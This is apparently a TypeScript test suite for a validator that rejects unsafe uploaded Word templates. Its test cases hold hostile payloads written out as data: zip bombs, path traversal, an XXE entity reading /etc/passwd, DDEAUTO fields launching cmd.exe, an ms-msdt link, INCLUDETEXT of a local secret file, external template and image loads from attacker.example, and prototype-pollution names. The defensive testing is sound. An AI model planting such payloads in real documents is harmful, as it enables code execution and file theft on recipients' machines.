import assert from 'node:assert/strict';
import { describe, it } from 'node:test';
import { strFromU8, strToU8, unzipSync, zipSync } from 'fflate';
import {
  addRelation,
  type Files,
  fieldOf,
  own,
  paragraphs,
  templateOf,
  types,
} from '../../../../test/support/reports/report-templates.ts';
import { sample } from '../../../../test/support/sample.ts';
import { DomainError } from '../../../errors.ts';
import { judgeTemplate } from './judge.ts';
import { lintTemplate } from './lint.ts';

const head = '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>';

/** A zip with an entry that unpacks to more bytes than declared. */
function understated(): Buffer {
  const bytes = Buffer.from(zipSync({ 'word/document.xml': new Uint8Array(5_000_000) }));
  const central = bytes.indexOf(Buffer.from('504b0102', 'hex'));
  bytes.writeUInt32LE(10, central + 24);
  return bytes;
}

async function faultsOf(template: Buffer): Promise<string[]> {
  const { faults } = await lintTemplate(template);
  return (faults ?? []).map(({ path, message }) => `${path}: ${message}`);
}

/** The same for what may exhaust memory or time, as an upload is judged. */
async function faultsInThread(template: Buffer, milliseconds?: number): Promise<string[]> {
  try {
    await judgeTemplate(template, milliseconds);
    return [];
  } catch (error) {
    assert.ok(error instanceof DomainError);
    return error.errors?.map(({ path, message }) => `${path}: ${message}`) ?? [error.code];
  }
}

const refused: Record<string, [template: Buffer, fault: RegExp]> = {
  'what is no zip': [
    Buffer.from('no zip at all, but some text that is long enough'),
    /^file: is no document/,
  ],
  'an empty file': [Buffer.alloc(0), /^file: is no document/],
  'a zip that is cut off': [own.subarray(0, own.length - 30), /^file: is no document/],
  'another zip': [Buffer.from(zipSync({ 'a.txt': strToU8('a') })), /^word\/document\.xml: is missing/m],
  'a bomb': [
    Buffer.from(zipSync({ 'word/document.xml': new Uint8Array(60_000_000) })),
    /^file: is larger than \d+ bytes when it is unpacked/,
  ],
  'a bomb that says that it is small': [understated(), /^file: is damaged/],
  'a thousand parts': [
    templateOf('', (files) => {
      for (let n = 0; n < 1000; n += 1) files[`word/header${n + 10}.xml`] = strToU8('<a/>');
    }),
    /^file: has more than 500 parts/,
  ],
  'a name that leads elsewhere': [
    templateOf('', (files) => {
      files['word/../../x.xml'] = strToU8('<a/>');
    }),
    /^file: has a part whose name leads elsewhere/,
  ],
  'two parts of one name': [
    templateOf('', (files) => {
      files['WORD/document.xml'] = strToU8('<a/>');
    }),
    /^file: has two parts of one name/,
  ],
  macros: [
    templateOf('', (files) => {
      files['word/vbaProject.bin'] = strToU8('macro');
    }),
    /^word\/vbaProject\.bin: is a part that a template may not have/,
  ],
  'a document type': [
    templateOf('', (files) => {
      files['word/header1.xml'] = strToU8(
        `${head}<!DOCTYPE a [<!ENTITY x SYSTEM "file:///etc/passwd">]><a>&x;</a>`,
      );
    }),
    /^word\/header1\.xml: declares a document type/,
  ],
  'XML that is none': [
    templateOf('', (files) => {
      files['word/header1.xml'] = strToU8('<a><b></a>');
    }),
    /^word\/header1\.xml: is not well-formed/,
  ],
  'XML in UTF-16': [
    templateOf('', (files) => {
      files['word/header1.xml'] = Buffer.from('\ufeff<a/>', 'utf16le');
    }),
    /^word\/header1\.xml: is not XML in UTF-8/,
  ],
  'a template from elsewhere': [
    templateOf(
      '',
      addRelation(
        `Id="x" Type="${types}/attachedTemplate" Target="https://attacker.example/t.dotm" TargetMode="External"`,
      ),
    ),
    /document\.xml\.rels: has a relationship that a template may not have: attachedTemplate/,
  ],
  'a picture from elsewhere': [
    templateOf(
      '',
      addRelation(
        `Id="x>" Type="${types}/image" Target="https://attacker.example/p.png" TargetMode="Ext&#101;rnal"`,
      ),
    ),
    /document\.xml\.rels: refers to something outside of the template: https:\/\/attacker/,
  ],
  'a file of the computer': [
    templateOf('', addRelation(`Id="x" Type="${types}/image" Target="file:///etc/passwd"`)),
    /refers to something outside/,
  ],
  'a link that is a program': [
    templateOf(
      '',
      addRelation(`Id="x" Type="${types}/hyperlink" Target="ms-msdt:/id" TargetMode="External"`),
    ),
    /refers to something outside/,
  ],
  'an object': [templateOf('<w:p><w:r><w:object/></w:r></w:p>'), /^word\/document\.xml: has object/],
  'a field that loads': [
    templateOf(fieldOf(' INCLUDETEXT "c:\\\\secret.txt" ')),
    /has a field .*INCLUDETEXT/,
  ],
  'a field that loads, in pieces': [
    templateOf(fieldOf(' INCLUDE', 'PICTURE "https://a.example" ')),
    /has a field/,
  ],
  'a field that runs': [templateOf(fieldOf('DDEAUTO c:\\\\windows\\\\cmd.exe')), /has a field .*DDEAUTO/],
  'a simple field that loads': [
    templateOf('<w:p><w:fldSimple w:x=">" w:instr="INCLUDETEXT a"/></w:p>'),
    /has a field .*INCLUDETEXT/,
  ],
  'a field in the code of a field': [
    templateOf(
      '<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText>PAGE</w:instrText></w:r><w:r><w:fldChar w:fldCharType="end"/></w:r><w:r><w:instrText>PAGE</w:instrText></w:r><w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>',
    ),
    /has a field .*field in a field/,
  ],
  'a tag in the code of a field': [templateOf(fieldOf('PAGEREF {title}')), /has a field .*\{title\}/],
  'a field that no report has': [templateOf(paragraphs('{passwords}')), /^\{passwords\}: is not a field/],
  'a name with a character that nobody sees': [
    templateOf(paragraphs('{client\u200b}')),
    /^\{client\[U\+200B\]\}: is not a field that a report has here; the nearest name is \{client\}/,
  ],
  'a field of a place where it is not': [templateOf(paragraphs('{sha256}')), /^\{sha256\}: is not a field/],
  'what every object has': [
    templateOf(
      paragraphs(
        '{__proto__}',
        '{constructor}',
        '{#toString}',
        '{/toString}',
        '{#findings}',
        '{#valueOf}',
        '{/}',
        '{/}',
      ),
    ),
    /^\{__proto__\}: is not a field.*\n\{constructor\}: is not a field.*\n\{#toString\}: is not a list.*\n\{#valueOf\}: is not a list/,
  ],
  'a path': [templateOf(paragraphs('{sections.0.title}', '{../title}')), /is not a field/],
  'raw XML': [templateOf(paragraphs('{@title}')), /^\{@title\}: is not a field/],
  'a list that is not closed': [
    templateOf(paragraphs('{#sections}')),
    /sections.*is not closed|tags: .*sections/i,
  ],
  'a list that is not open': [
    templateOf(paragraphs('{/sections}')),
    /^\{\/sections\}: closes what is not open/,
  ],
  'lists that cross': [
    templateOf(paragraphs('{#sections}', '{#parts}', '{/sections}', '{/parts}')),
    /^\{\/sections\}: stands where \{#parts\} has to be closed first/,
  ],
  'a list of the whole report in another': [
    templateOf(
      paragraphs('{#findings}', '{#has_gaps}', '{#gaps}', '{name}', '{/gaps}', '{/}', '{/findings}'),
    ),
    /^\{#gaps\}: is a list of the whole report: close \{#findings\} first \(page 1, “\{#gaps\}”\)$/,
  ],
  'a list of a part of a section, in the section itself': [
    templateOf(paragraphs('{#section.gaps}', '{#gaps}', '{name}', '{/gaps}', '{/}')),
    /^\{#gaps\}: is not a list or condition that a report has here; it stands within \{#parts\} \(page 1, “\{#gaps\}”\)$/,
  ],
  'a tag in a footnote': [
    templateOf('', (files) => {
      files['word/footnotes.xml'] = strToU8(
        `${head}<w:footnotes xmlns:w="w"><w:footnote w:id="2"><w:p><w:r><w:t>Source: {cli</w:t></w:r><w:r><w:t>ent}</w:t></w:r></w:p></w:footnote></w:footnotes>`,
      );
    }),
    /^\{client\}: stands in a footnote or endnote, where nothing is filled: “Source: \{client\}”$/,
  ],
  comments: [
    templateOf('', (files) => {
      addRelation(`Id="c" Type="${types}/comments" Target="comments.xml"`)(files);
      files['word/comments.xml'] = strToU8(`${head}<w:comments xmlns:w="w"/>`);
      files['word/commentsExtended.xml'] = strToU8(`${head}<w:comments xmlns:w="w"/>`);
    }),
    /^word\/comments\.xml: holds comments: delete them all, and upload it again$/,
  ],
  'a tag that ends in another paragraph': [
    templateOf(paragraphs('Dear {client', 'yours')),
    /^word\/document\.xml: has a brace that belongs to no tag: Dear \{client \(an empty mission\)$/,
  ],
  'a list that is closed in a cell': [
    templateOf(
      `${paragraphs('{#findings}')}<w:tbl><w:tr><w:tc>${paragraphs('{title}{/findings}')}</w:tc></w:tr></w:tbl>`,
    ),
    /^\{#findings\}: is closed elsewhere: only one of the two tags stands in a cell or a text box \(page 1, “\{#findings\}”\)$/,
  ],
  'an unknown name in a text box, which is saved twice': [
    templateOf(
      `<w:p><mc:AlternateContent xmlns:mc="mc"><mc:Choice>${paragraphs('{clinet}')}</mc:Choice><mc:Fallback>${paragraphs('{clinet}')}</mc:Fallback></mc:AlternateContent></w:p>`,
    ),
    /^\{clinet\}: is not a field that a report has here; the nearest name is \{client\} \(page 1, “\{clinet\}”\)$/,
  ],
  'an unknown name below a heading, in a document without page starts': [
    templateOf(
      `<w:p><w:pPr><w:pStyle w:val="Heading1"/></w:pPr><w:r><w:t>Gaps of {client}</w:t></w:r></w:p>${paragraphs('{clinet}')}`,
    ),
    /^\{clinet\}: is not a field .* \(below “Gaps of \{client\}”, “\{clinet\}”\)$/,
  ],
  'an unknown name in the title of a chart': [
    templateOf('', (files) => {
      const chart = strFromU8(files['word/charts/chart1.xml'] as Uint8Array);
      files['word/charts/chart1.xml'] = strToU8(chart.replace(/\{chart_of_(\w+)s\}/, '{chart_of_$1}'));
    }),
    /nearest name is \{chart_of_\w+s\} \(title of a chart, “\{chart_of_\w+\}”\)$/,
  ],
  'a list in itself': [
    templateOf(paragraphs('{#sections}', '{#sections}', '{title}', '{/sections}', '{/sections}')),
    /^\{#sections\}: is a list of the whole report: close \{#sections\} first/,
  ],
  'a list that is repeated without an end': [
    templateOf(
      paragraphs(...Array.from({ length: 50 }, () => ['{#sections}', '{title}', '{/sections}']).flat()),
    ),
    /is repeated more than 5 times/,
  ],
  'a tag that is not closed': [templateOf(paragraphs('{title')), /a brace that belongs to no tag: \{title/],
  'a chart outside of a chart': [templateOf(paragraphs('{chart_of_outcomes}')), /^tags: .*chart/i],
  'an option that is not known': [
    templateOf(paragraphs('{title [__proto__: {x: 1}, y: 2]}')),
    /has an unknown option|is not a field/,
  ],
};

describe('a Word template', () => {
  for (const [what, [template, fault]] of sample(Object.entries(refused), 3)) {
    it(`is refused with ${what}`, async () => {
      assert.match((await faultsOf(template)).join('\n'), fault);
    });
  }

  it('is accepted like the default template', async () => {
    assert.deepEqual(await faultsOf(own), []);
    const kept = unzipSync(await judgeTemplate(own));
    assert.deepEqual(kept, unzipSync(own));
  });

  it('may have links, page numbers, and tables that are repeated', async () => {
    const link = addRelation(
      `Id="x" Type="${types}/hyperlink" Target="https://example.org" TargetMode="External"`,
    );
    const body = paragraphs('{#sections}', '{number} {title}', '{/sections}', '{#draft}Draft{/draft}');
    assert.deepEqual(await faultsOf(templateOf(body + fieldOf('PAGE'), link)), []);
  });

  it('may be saved by Word or LibreOffice: with content controls, from another template, or as a template', async () => {
    const control = (content: string) =>
      `<w:sdt><w:sdtPr><w:alias w:val="a"/></w:sdtPr><w:sdtEndPr/><w:sdtContent>${content}</w:sdtContent></w:sdt>`;
    const body = control(
      paragraphs('{#sections}') + control(paragraphs('{number} {title}')) + paragraphs('{/sections}'),
    );
    const change = (files: Files, name: string, settle: (text: string) => string) => {
      files[name] = strToU8(settle(strFromU8(files[name] ?? strToU8(`${head}<Relationships/>`))));
    };
    const template = templateOf(body, (files) => {
      change(files, '[Content_Types].xml', (text) => text.replace('document.main+xml', 'template.main+xml'));
      change(files, 'word/settings.xml', (text) =>
        text.replace('</w:settings>', '<w:attachedTemplate r:id="rId1"/></w:settings>'),
      );
      change(
        files,
        'word/_rels/settings.xml.rels',
        () =>
          `${head}<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="rId1" Type="${types}/attachedTemplate" Target="file:///C:/Office/Letter.dotm" TargetMode="External"/></Relationships>`,
      );
    });
    const kept = unzipSync(await judgeTemplate(template));
    const text = (name: string) => strFromU8(kept[name] as Uint8Array);
    assert.match(text('[Content_Types].xml'), /wordprocessingml\.document\.main\+xml/);
    assert.doesNotMatch(text('word/settings.xml') + text('word/_rels/settings.xml.rels'), /attachedTemplate/);
    assert.doesNotMatch(text('word/document.xml'), /sdt/);
    assert.match(text('word/document.xml'), /\{number\} \{title\}/);
  });

  it('may have names in pieces, with spaces around them that break no line', async () => {
    const pieces = ['{', '\u00a0cli', 'ent ', '}', ' {#\u00a0draft}', 'x', '{/\u202fdraft}'];
    const body = `<w:p>${pieces.map((piece) => `<w:r><w:rPr><w:b/></w:rPr><w:t xml:space="preserve">${piece}</w:t></w:r>`).join('<w:proofErr w:type="spellEnd"/>')}</w:p>`;
    const listed = paragraphs('{#\u00a0findings}', '{title}', '{/\u00a0findings\u00a0}');
    assert.deepEqual(await faultsOf(templateOf(body + listed)), []);
  });

  it('is refused with elements 60,000 deep', async () => {
    const template = templateOf('<w:p>'.repeat(60_000) + '</w:p>'.repeat(60_000));
    assert.match((await faultsInThread(template)).join('\n'), /^(?:tags|file): /);
  });

  it('is refused when it takes too long', async () => {
    assert.deepEqual(await faultsInThread(own, 0), ['file: takes longer to fill than a template should']);
  });

  it('may have ten mebibytes at most', async () => {
    assert.deepEqual(await faultsInThread(Buffer.alloc(10 * 1024 * 1024 + 1)), ['too_large']);
  });
});
